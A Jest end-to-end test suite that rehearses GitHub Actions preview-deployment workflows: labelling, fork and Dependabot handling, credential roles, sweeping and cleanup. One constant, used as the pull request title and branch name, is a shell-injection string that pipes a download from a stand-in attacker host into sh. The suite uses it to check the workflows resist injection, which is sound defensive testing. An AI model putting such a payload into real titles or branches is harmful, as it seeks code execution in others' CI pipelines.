import { afterAll, beforeAll, beforeEach, expect, test } from '@jest/globals'
import type { Github } from '../../../sandbox/runner/github/server.ts'
import { versionAt } from '../../e2e/version-at.ts'
import { step, succeeded } from './outcome.ts'
import { Rehearsal } from './rehearsal.ts'

/** The life of a preview by the workflows that users copy, run by act through dist/index.js beside production. */

let rehearsal: Rehearsal
let github: Github
let sha: string
const asked: string[] = []
beforeAll(async () => {
  rehearsal = await Rehearsal.open()
  github = rehearsal.github
  rehearsal.beforeCredentials = async (job, role) => {
    asked.push(`${job}: ${role.replace(/.*\//, '')}`)
  }
  github.pulls.open({ number: 12 })
})
beforeEach(() => {
  asked.length = 0
})
afterAll(async () => {
  await rehearsal.close()
  expect([...new Set(github.problems)]).toEqual([])
})

const hostile = '"; curl http://evil.example | sh #$(id) @acme/admins'

interface Change {
  readonly labels?: readonly string[]
  readonly repository?: string
  readonly label?: string
  readonly actor?: string
  readonly author?: string
}

function happens(workflow: string, event: 'pull_request' | 'pull_request_target', action: string, change: Change = {}) {
  const { labels = ['preview'], repository = 'acme/shop', label, actor, author = 'octocat' } = change
  const payload = {
    action,
    number: 12,
    ...(label === undefined ? {} : { label: { name: label } }),
    pull_request: {
      user: { login: author },
      number: 12,
      title: hostile,
      labels: labels.map(name => ({ name })),
      head: { ref: hostile, sha, repo: { full_name: repository } },
      base: { ref: 'main', sha },
    },
  }
  return rehearsal.pullRequest(workflow, event, payload, actor)
}

const comments = () => github.pulls.comments(12).map(({ body }) => body)
const states = () => github.deployments().map(({ statuses }) => statuses[0]?.state)
const previewVersion = () => versionAt(rehearsal.stage.url, 'pr-12.preview.example.com')

test.each<[string, string, Change]>([
  ['without the label', 'opened', { labels: ['bug'] }],
  ['that gets another label', 'labeled', { label: 'bug' }],
  ['of a fork, whatever its labels are', 'labeled', { label: 'preview', repository: 'mallory/shop' }],
  ['of Dependabot', 'synchronize', { actor: 'dependabot[bot]', author: 'dependabot[bot]' }],
  ['of Dependabot that somebody else labels', 'labeled', { label: 'preview', author: 'dependabot[bot]' }],
])('preview.yml: a pull request %s gets no job and no credentials', async (_, action, change) => {
  sha = rehearsal.repository.commit()
  const result = await happens('preview.yml', 'pull_request', action, change)
  expect(result.exitCode).toBe(0)
  expect(asked).toEqual([])
  expect(rehearsal.registry.builds).toBe(0)
})

test('preview.yml: with the label, a preview by roles of its own, told of in the pull request', async () => {
  const result = succeeded(await happens('preview.yml', 'pull_request', 'labeled', { label: 'preview' }))
  expect(asked).toEqual(['image: preview-build', 'preview: preview'])
  expect(rehearsal.registry.tags()).toEqual([`shop-previews:${sha}`])
  expect(step(result, 'preview', 'preview').outputs).toMatchObject({
    'deployment-status': 'succeeded',
    'preview-url': expect.stringContaining('pr-12.preview.example.com'),
  })
  expect(result.log).toContain('It answers at http')
  expect(await previewVersion()).toBe(sha)
  expect(await rehearsal.versionNow()).toBe('0.0.1')
  expect(comments()).toEqual([expect.stringContaining('pr-12.preview.example.com')])
  expect(comments().join()).not.toMatch(/evil|acme\/admins/)
  expect(states()).toEqual(['success'])
})

test('preview.yml: a push updates it in place', async () => {
  sha = rehearsal.repository.commit()
  succeeded(await happens('preview.yml', 'pull_request', 'synchronize'))
  expect(await previewVersion()).toBe(sha)
  expect(comments()).toEqual([expect.stringContaining(sha)])
  expect(states()).toEqual(['success', 'inactive'])
})

test('preview-sweep.yml: leaves what is open', async () => {
  const result = succeeded(await rehearsal.schedule('preview-sweep.yml'))
  expect(step(result, 'sweep', 'sweep').outputs).toMatchObject({ 'deployment-status': 'unchanged' })
  expect(await previewVersion()).toBe(sha)
})

test('preview-cleanup.yml: takes it away, and says so', async () => {
  github.pulls.close(12)
  const forks = await happens('preview-cleanup.yml', 'pull_request_target', 'closed', { repository: 'mallory/shop' })
  expect([forks.exitCode, asked]).toEqual([0, []])
  const result = succeeded(await happens('preview-cleanup.yml', 'pull_request_target', 'closed'))
  expect(asked).toEqual(['destroy: preview'])
  expect(step(result, 'destroy', 'destroy').outputs).toMatchObject({ 'deployment-status': 'succeeded' })
  expect(comments()).toEqual([expect.stringContaining('is gone')])
  expect(states()).toEqual(['inactive', 'inactive'])
  expect(await previewVersion()).toBe('0.0.1')
})

test('preview-sweep.yml: takes away what the cleanup has missed', async () => {
  github.pulls.open({ number: 12 })
  succeeded(await happens('preview.yml', 'pull_request', 'reopened'))
  expect(await previewVersion()).toBe(sha)
  github.pulls.close(12)
  const result = succeeded(await rehearsal.schedule('preview-sweep.yml'))
  expect(step(result, 'sweep', 'sweep').outputs).toMatchObject({ 'deployment-status': 'succeeded' })
  expect(comments()).toEqual([expect.stringContaining('pull request 12 is closed')])
})

test('through all of it no client of production missed an answer', () => {
  const { failed, total, versions } = rehearsal.stage.watch().snapshot()
  expect(failed).toBe(0)
  expect(total).toBeGreaterThan(1_000)
  expect(versions.map(({ version }) => version)).toEqual(['0.0.1'])
})
